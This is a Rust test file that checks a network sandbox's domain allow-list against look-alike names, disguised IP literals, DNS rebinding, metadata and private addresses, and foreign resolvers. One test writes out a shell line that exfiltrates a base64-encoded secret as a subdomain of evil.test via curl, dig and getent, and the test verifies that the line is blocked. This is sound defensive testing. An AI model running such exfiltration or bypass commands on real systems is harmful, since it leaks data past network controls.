//! What a name is, what it leads to, and what is asked about it.

use super::internet::{OTHER_RESOLVER, RESOLVER, online};
use super::{Home, Judged, allowing, reported, with_network};
use crate::support::World;
use serde_json::json;

/// N04: labels are compared, not letters.
#[test]
fn names_that_only_look_alike() {
    online(|net, world| {
        for (allowed, name) in [
            ("allow.test", "notallow.test"),
            ("allow.test", "allow.test.evil.test"),
            ("allow.test", "also.allow.test"),
            ("*.allow.test", "allow.test"),
            ("*.allow.test", "notallow.test"),
            ("allow.test", "allow-test.evil.test"),
        ] {
            let judged = allowing(world, &[allowed]).curl(&[&format!("http://{name}/")]);
            judged.fails_quickly().refused("resolve", name);
        }
        assert_eq!(net.asked(), [""; 0]);
        assert_eq!(net.served(), [""; 0]);
        for (allowed, url) in [
            ("allow.test", "http://ALLOW.Test/"),
            ("ALLOW.test", "http://allow.test/"),
            ("allow.test", "http://allow.test./"),
            ("*.allow.test", "http://also.allow.test/"),
            ("*.allow.test", "http://deep.also.allow.test/"),
            ("b\u{fc}cher.test", "http://xn--bcher-kva.test/"),
            ("xn--bcher-kva.test", "http://b\u{fc}cher.test/"),
        ] {
            let judged = allowing(world, &[allowed]).curl(&[url]);
            judged.ran.exits(0);
            assert!(judged.ran.out().starts_with("hello from"), "{allowed} {url}{}", judged.ran);
            judged.clean();
        }
    });
}

/// N05.
#[test]
fn rules_that_allow_everything_are_no_rules() {
    online(|_, world| {
        for rule in [
            "*",
            "*.com",
            "**",
            "*.*",
            "*allow.test",
            "a.*.test",
            "https://allow.test",
            "",
            "al low.test",
            "::1",
            "allow.test:0",
        ] {
            let ran = world.run().with("--allow-domain", rule).program(["true"]);
            ran.refused_to_start(&["--allow-domain"]);
            let settings = world.settings(json!({"network": {"allowedDomains": [rule]}}).to_string());
            let ran = world.run().with("--settings", settings).program(["true"]);
            ran.refused_to_start(&["allowedDomains"]);
        }
        world.run().with("--allow-domain", "*.allow.test").program(["true"]).exits(0);
    });
}

/// Odd spellings of addresses are neither names nor literals.
#[test]
fn disguised_addresses() {
    online(|net, world| {
        for host in ["0xcb00710d", "3405803789", "203.113.13", "0313.0.0161.015", "0x7f.1"] {
            let url = format!("http://{host}/");
            // Whoever turns them into an address first has the address judged.
            let judged = allowing(world, &["allow.test"]).curl(&[&url]);
            judged.fails_quickly();
            assert!(!judged.violations().is_empty() || host == "0x7f.1", "{}", judged.ran);
        }
        assert_eq!(net.connections(), []);
        assert_eq!(net.asked(), [""; 0]);
    });
}

/// N07.
#[test]
fn names_that_lead_where_no_name_may() {
    online(|net, world| {
        let home = Home::open(8099);
        net.http(8099);
        for name in ["loop.test", "loop6.test", "mapped.test", "any.test", "own.test", "metadata.test"] {
            let url = format!("http://{name}:8099/");
            // The control: without walls the name answers.
            world.bare("/usr/bin/curl").opts(["-sSf", "--max-time", "5", &url]).go().exits(0);
            let (hits, reached) = (home.hits(), net.connections().len());
            let judged = allowing(world, &[name]).curl(&[&url]);
            judged.fails_quickly().refused("connect", &format!("{name}:8099"));
            assert_eq!(home.hits(), hits, "{name} led home{}", judged.ran);
            assert_eq!(net.connections().len(), reached, "{}", judged.ran);
        }
        // Whoever lists the literal means it.
        let judged =
            allowing(world, &["metadata.test", "169.254.169.254"]).curl(&["http://metadata.test:8099/"]);
        judged.gives("hello from metadata.test:8099\n");
        // One good address among bad ones: only the good one is dialled.
        let hits = home.hits();
        let judged = allowing(world, &["mixed.test"]).curl(&["http://mixed.test:8099/"]);
        judged.ran.exits(0);
        assert_eq!(judged.ran.out(), "hello from mixed.test:8099\n", "{}", judged.ran);
        assert_eq!(home.hits(), hits);
    });
}

#[test]
fn private_answers_follow_a_switch() {
    online(|net, world| {
        for (name, network) in
            [("private.test", "10.0.0.0/8"), ("carrier.test", "100.64.0.0/10"), ("unique.test", "fc00::/7")]
        {
            let url = format!("http://{name}/");
            let judged = allowing(world, &[name]).curl(&[&url]);
            judged.gives(&format!("hello from {name}\n"));
            net.forget();
            for more in
                [json!({"allowPrivateAddresses": false}), json!({"deniedResolvedAddresses": [network]})]
            {
                let mut network = more;
                network["allowedDomains"] = json!([name]);
                let judged = with_network(world, network).curl(&[&url]);
                judged.fails_quickly().refused("connect", &format!("{name}:80"));
                assert_eq!(net.connections(), [], "{}", judged.ran);
            }
        }
    });
}

/// N08.
#[test]
fn the_checked_address_is_the_dialled_one() {
    online(|net, world| {
        let home = Home::open(8099);
        net.http(8099);
        let text = "curl -sS http://rebind.test:8099/one; curl -sS --max-time 5 http://rebind.test:8099/two";
        let judged = allowing(world, &["rebind.test"]).shell(text);
        assert_eq!(home.hits(), 0, "the second answer was dialled{}", judged.ran);
        let reached: Vec<String> = net.connections().iter().map(|at| at.ip().to_string()).collect();
        assert!(reached.iter().all(|at| at == "203.0.113.10"), "{reached:?}{}", judged.ran);
        // The second answer really is another one.
        world.bare("/usr/bin/curl").opts(["-sS", "http://rebind.test:8099/"]).go();
        world.bare("/usr/bin/curl").opts(["-sS", "http://rebind.test:8099/"]).go();
        assert!(home.hits() > 0);
    });
}

/// N10.
#[test]
fn secrets_do_not_leave_as_names() {
    online(|net, world| {
        let wire = net.wire();
        let text = "curl -sS http://c2VjcmV0.evil.test/; dig +tries=1 +time=3 c2VjcmV0.evil.test; \
                    dig +tries=1 +time=3 TXT c2VjcmV0.evil.test; dig +tries=1 +time=3 +tcp c2VjcmV0.evil.test; \
                    getent hosts c2VjcmV0.evil.test; true";
        let judged = allowing(world, &["allow.test"]).shell(text);
        judged.refused("resolve", "c2vjcmv0.evil.test");
        assert_eq!(wire.carried("c2VjcmV0"), 0, "{}", judged.ran);
        assert_eq!(net.asked(), [""; 0]);
        allowing(world, &["*.allow.test"]).curl(&["http://harmless.allow.test/"]).clean();
        assert!(wire.carried("harmless") > 0, "the wire hears nothing at all");
    });
}

/// The answer to one dig, without its comments.
fn dig(words: &str) -> String {
    format!("dig +tries=1 +time=3 +noall +comments +answer {words}; ")
}

/// What each kind of question about a name was answered, in one run.
#[track_caller]
fn answers(world: &World, name: &str) -> (Vec<(&'static str, String)>, Judged) {
    const KINDS: [&str; 12] =
        ["A", "AAAA", "HTTPS", "SVCB", "SRV", "TXT", "MX", "NS", "SOA", "CNAME", "ANY", "TYPE65280"];
    let text: String =
        KINDS.iter().map(|kind| format!("{}echo ==; ", dig(&format!("{kind} {name}")))).collect();
    let judged = allowing(world, &["allow.test"]).shell(&text);
    let said = judged.ran.out();
    let parts: Vec<String> = said.split("==\n").map(ToOwned::to_owned).collect();
    assert_eq!(parts.len(), KINDS.len() + 1, "{}", judged.ran);
    (KINDS.into_iter().zip(parts).collect(), judged)
}

#[test]
fn every_kind_of_question() {
    online(|net, world| {
        let (said, judged) = answers(world, "allow.test");
        for (kind, said) in said {
            let codes = ["NOERROR", "NOTIMP", "REFUSED"];
            assert!(
                codes.iter().any(|code| said.contains(&format!("status: {code}"))),
                "{kind}{}",
                judged.ran
            );
            match kind {
                "A" => assert!(said.contains("\tA\t198.1"), "{}", judged.ran),
                "AAAA" => assert!(said.contains("\tAAAA\tfd53:746f:636b:"), "{}", judged.ran),
                _ => {}
            }
        }
        judged.clean();
        net.forget();
        let (said, judged) = answers(world, "evil.test");
        for (kind, said) in said {
            assert!(
                said.contains("status: REFUSED") || said.contains("status: NXDOMAIN"),
                "{kind}{}",
                judged.ran
            );
            assert!(!said.contains("evil.test.\t"), "{kind}{}", judged.ran);
        }
        judged.refused("resolve", "evil.test");
        let judged = allowing(world, &["allow.test"]).shell(&dig("-x 203.0.113.10"));
        assert!(judged.ran.out().contains("status: "), "no answer at all{}", judged.ran);
        assert_eq!(net.asked(), [""; 0], "{}", judged.ran);
    });
}

#[test]
fn names_that_do_not_exist() {
    online(|_, world| {
        let judged = allowing(world, &["*.allow.test"]).shell(&dig("nx.allow.test"));
        assert!(judged.ran.out().contains("status: NXDOMAIN"), "{}", judged.ran);
        judged.clean();
        let judged = allowing(world, &["*.allow.test"]).curl(&["http://nx.allow.test/"]);
        judged.ran.exits(6);
        judged.clean();
    });
}

#[test]
fn other_resolvers_are_out_of_reach() {
    online(|net, world| {
        net.silent(853);
        for how in ["", "+tcp", "+noedns", "+tcp -6"] {
            let server = if how.contains("-6") { "2001:db8::53" } else { OTHER_RESOLVER };
            let judged = allowing(world, &["allow.test"]).shell(&dig(&format!("{how} @{server} evil.test")));
            assert!(!judged.ran.out().contains("203.0.113."), "{}", judged.ran);
            judged.refused("resolve", "evil.test");
            // An allowed name is answered, but not by them.
            let kind = if how.contains("-6") { "AAAA" } else { "A" };
            let judged =
                allowing(world, &["allow.test"]).shell(&dig(&format!("{how} @{server} {kind} allow.test")));
            let said = judged.ran.out();
            assert!(said.contains("198.1") || said.contains("fd53:"), "{}", judged.ran);
        }
        let foreign: Vec<_> = net.queries().into_iter().filter(|query| query.server != RESOLVER).collect();
        assert_eq!(foreign, [], "somebody asked another server");
        assert!(!net.asked().contains(&"evil.test".to_owned()));
        // DNS over TLS, to the host's resolver and to another.
        for server in [RESOLVER, OTHER_RESOLVER] {
            let target = format!("{server}:853");
            let (answer, judged) =
                allowing(world, &["allow.test"]).probe(&["talk", &target, "\u{16}\u{3}\u{1}"]);
            answer.errno(&["ECONNRESET", "ECONNREFUSED", "EPIPE"]);
            judged.refused("connect", &target);
        }
        assert!(net.raw().is_empty());
        assert_eq!(net.connections(), []);
    });
}

/// N19.
#[test]
fn ports_belong_to_the_rule() {
    online(|net, world| {
        net.banner(22);
        let (answer, judged) = allowing(world, &["allow.test:443"]).probe(&["talk", "allow.test:22"]);
        answer.errno(&["ECONNRESET", "ECONNREFUSED"]);
        let row = judged.refused("connect", "allow.test:22");
        assert!(row["rule"]["text"].as_str().is_some_and(|text| text.contains("allow.test:443")), "{row:#}");
        assert_eq!(net.connections(), []);
        let (answer, judged) = allowing(world, &["allow.test:22"]).probe(&["talk", "allow.test:22"]);
        assert!(answer.ok().starts_with("220"), "{}", answer.line());
        judged.clean();
        let network = json!({"allowedDomains": ["allow.test"], "ports": [80]});
        let (answer, judged) = with_network(world, network.clone()).probe(&["talk", "allow.test:22"]);
        answer.errno(&["ECONNRESET", "ECONNREFUSED"]);
        judged.refused("connect", "allow.test:22");
        with_network(world, network).curl(&["http://allow.test/"]).gives("hello from allow.test\n");
    });
}

#[test]
fn denials_win() {
    online(|net, world| {
        let judged = allowing(world, &["*.allow.test"])
            .with("--deny-domain", "also.allow.test")
            .curl(&["http://also.allow.test/"]);
        let row = judged.fails_quickly().refused("resolve", "also.allow.test");
        assert!(row["rule"]["text"].as_str().is_some_and(|text| text.contains("also.allow.test")), "{row:#}");
        assert_eq!(row["rule"]["origin"]["source"], "--deny-domain", "{row:#}");
        assert_eq!(net.asked(), [""; 0]);
        let network = json!({
            "allowedDomains": ["allow.test", "*.allow.test"],
            "deniedDomains": ["*.allow.test:8080"],
            "deniedDomainReasons": {"*.allow.test:8080": "the old port is closed"},
        });
        let judged = with_network(world, network.clone()).curl(&["http://also.allow.test:8080/"]);
        let row = judged.fails_quickly().refused("connect", "also.allow.test:8080");
        assert!(row.to_string().contains("the old port is closed"), "{row:#}");
        with_network(world, network).curl(&["http://also.allow.test/"]).gives("hello from also.allow.test\n");
    });
}

/// N28.
#[test]
fn an_empty_list_allows_nothing() {
    online(|net, world| {
        let wire = net.wire();
        let empty = || with_network(world, json!({"allowedDomains": []}));
        for words in
            [&["http://allow.test/"][..], &["http://203.0.113.10/"], &["-g", "http://[2001:db8::10]/"]]
        {
            empty().curl(words).fails_quickly();
            reported(world, world.run()).curl(words).fails_quickly();
        }
        let (answer, _) = empty().probe(&["ask-udp", "203.0.113.53:53", "question"]);
        assert!(!answer.succeeded(), "{}", answer.line());
        assert_eq!(wire.of_protocol(6) + wire.of_protocol(17), 0);
        assert_eq!(net.connections(), []);
        allowing(world, &["allow.test"]).curl(&["http://allow.test/"]).gives("hello from allow.test\n");
    });
}

/// Set-ups that ask somebody else than the resolver of resolv.conf.
#[test]
fn the_callers_own_hosts_file_does_not_open_doors() {
    online(|net, world| {
        // A name in /etc/hosts inside leads to a literal, and literals are judged.
        let text = "getent hosts localhost >/dev/null && curl -sS --max-time 5 http://localhost:80/";
        let judged = allowing(world, &["allow.test"]).shell(text);
        judged.fails_quickly().clean();
        assert_eq!(net.connections(), []);
    });
}
